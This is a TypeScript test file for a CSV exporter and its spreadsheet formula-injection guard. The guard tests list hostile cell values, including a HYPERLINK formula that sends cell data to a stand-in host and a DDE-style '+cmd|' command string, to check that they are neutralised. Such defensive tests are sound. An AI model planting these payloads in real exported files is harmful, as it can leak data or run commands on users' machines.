import { escapeFormula, toCsv } from './csv';

async function csvOf(
  names: string[],
  json: string,
  chunk = Infinity,
  writeText?: (text: string) => string,
) {
  const bytes = Buffer.from(json);
  const body = (async function* chunks() {
    for (let at = 0; at < bytes.length; at += chunk)
      yield bytes.subarray(at, at + chunk);
  })();
  const columns = names.map(name => ({ name, schema: {}, nullable: true }));
  const fn = { name: 'prices', result: { kind: 'table' as const, columns } };
  let text = '';
  for await (const part of await toCsv(body, fn as any, { writeText }))
    text += part;
  return text;
}

const table = (rows: object[]) => JSON.stringify({ rows, count: rows.length });

describe('toCsv', () => {
  it('begins with the columns and ends every line with CRLF', async () => {
    expect(await csvOf(['a', 'b'], table([{ b: 2, a: 1 }]))).toBe(
      'a,b\r\n1,2\r\n',
    );
  });

  it('writes the header alone for an empty table', async () => {
    expect(await csvOf(['a'], table([]))).toBe('a\r\n');
  });

  it('quotes commas, quotes and line breaks', async () => {
    const rows = [
      { a: 'x,y' },
      { a: 'say "x"' },
      { a: 'one\ntwo' },
      { a: '\r' },
    ];
    expect(await csvOf(['a'], table(rows))).toBe(
      'a\r\n"x,y"\r\n"say ""x"""\r\n"one\ntwo"\r\n"\r"\r\n',
    );
  });

  it('quotes semicolons and tabs, by which spreadsheets split, too', async () => {
    const rows = [{ a: 'x;y' }, { a: 'x\ty' }];
    expect(await csvOf(['a'], table(rows))).toBe('a\r\n"x;y"\r\n"x\ty"\r\n');
  });

  it('guards texts and structures where a spreadsheet splits by semicolons, and no numbers', async () => {
    const json = table([{ a: -1, b: 'x;=1+1;', c: { d: ';=1+1;' } }]);
    const text = await csvOf(['a', 'b', 'c'], json, Infinity, escapeFormula);
    expect(text).toBe(`a,b,c\r\n-1,"x;'=1+1;","{""d"":"";'=1+1;""}"\r\n`);
    const cells = text.split(/[;\r\n]/);
    expect(cells.filter(cell => cell.startsWith('='))).toEqual([]);
  });

  it('writes an empty cell for null and for missing values', async () => {
    expect(await csvOf(['a', 'b'], table([{ a: null }]))).toBe('a,b\r\n,\r\n');
  });

  it('writes numbers, truth values and structures as JSON has them', async () => {
    const rows = [{ a: 1e21, b: false, c: [1] }];
    expect(await csvOf(['a', 'b', 'c'], table(rows))).toBe(
      'a,b,c\r\n1e+21,false,[1]\r\n',
    );
  });

  it('keeps every digit of integers, also in structures', async () => {
    const json =
      '{"rows":[{"a":9007199254740993,"b":{"x":[-9223372036854775808]}}],"count":1}';
    expect(await csvOf(['a', 'b'], json)).toBe(
      'a,b\r\n9007199254740993,"{""x"":[-9223372036854775808]}"\r\n',
    );
  });

  it.each([1, 2, 3, 7])('reads chunks of %d bytes', async chunk => {
    const rows = [
      { a: '}]\\"{[', b: 'ä€😀' },
      { a: '\\', b: { c: ['}', '\\"'] } },
    ];
    const json = JSON.stringify({ rows, count: 2 }, null, 1);
    expect(await csvOf(['a', 'b'], json, chunk)).toBe(
      await csvOf(['a', 'b'], json),
    );
    expect(await csvOf(['a', 'b'], json)).toBe(
      'a,b\r\n"}]\\""{[",ä€😀\r\n\\,"{""c"":[""}"",""\\\\\\""""]}"\r\n',
    );
  });

  it.each([
    '{"other":true}',
    'x'.repeat(2000),
    '{"rows":[1],"count":1}',
    '{"rows":[{"a":}],"count":1}',
  ])('refuses %s, which is not a table', async json => {
    await expect(csvOf(['a'], json)).rejects.toMatchObject({
      message:
        'prices returned something other than a table; contact the owners of the app',
      retryAfter: undefined,
    });
  });

  it.each([
    '{"rows":[{"a":1}',
    '{"rows":[{"a":1}]',
    '{"rows":[],"count":0} and more',
    '',
  ])('reports that %s broke off', async json => {
    await expect(csvOf(['a'], json)).rejects.toThrow(
      'The response of prices was interrupted; retry',
    );
  });

  it('yields rows before the table is complete, and keeps no more than one', async () => {
    const row = JSON.stringify({ a: 'x'.repeat(100) });
    let sent = 0;
    const body = (async function* endless() {
      yield Buffer.from('{"rows":[');
      for (;;) {
        sent += 1;
        yield Buffer.from(`${sent > 1 ? ',' : ''}${row}`);
      }
    })();
    const columns = [{ name: 'a', schema: {}, nullable: false }];
    const lines = await toCsv(body, {
      name: 'prices',
      result: { kind: 'table', columns },
    } as any);
    for (let count = 0; count < 1_000; count += 1)
      expect((await lines.next()).value).toContain('xxx');
    expect(sent).toBeLessThanOrEqual(1_001);
    await lines.return?.();
  });
});

describe('escapeFormula', () => {
  it.each([
    '=1+1',
    '=HYPERLINK("https://elsewhere.example/?"&A1,"click")',
    '+cmd|x!A1',
    '-1+cmd|x',
    '@SUM(A1)',
    '  =1',
    '\n',
    '\uFF1D1+1',
    '-1 EUR+1',
    '-1 eur',
    '=1 EUR',
  ])('puts an apostrophe before %j', text => {
    expect(escapeFormula(text)).toBe(`'${text}`);
  });

  it.each([
    ['\t=1', "'\t'=1"],
    ['\r=1', "'\r'=1"],
    [';=1+1', ";'=1+1"],
    ['x;=1+1;', "x;'=1+1;"],
    ['x; @SUM(A1)', "x;' @SUM(A1)"],
    ['x\t=1+1', "x\t'=1+1"],
    ['x\r\n=1+1', "x\r\n'=1+1"],
    ['=1;=2', "'=1;'=2"],
    ['1;-2;-3 EUR;+x', "1;-2;-3 EUR;'+x"],
  ])('guards each cell that %j could be split into', (text, guarded) => {
    expect(escapeFormula(text)).toBe(guarded);
  });

  it.each([
    '',
    'a=b',
    'a;b',
    'EUR;-1.5;2',

    '-1',
    '+1.5',
    '-1e-7',
    '-1234.50 EUR',
    '-3 JPY',
    '1-2',
    '2026-11-20',
    'x@y.z',
    '–',
  ])('leaves %j as it is', text => {
    expect(escapeFormula(text)).toBe(text);
  });
});
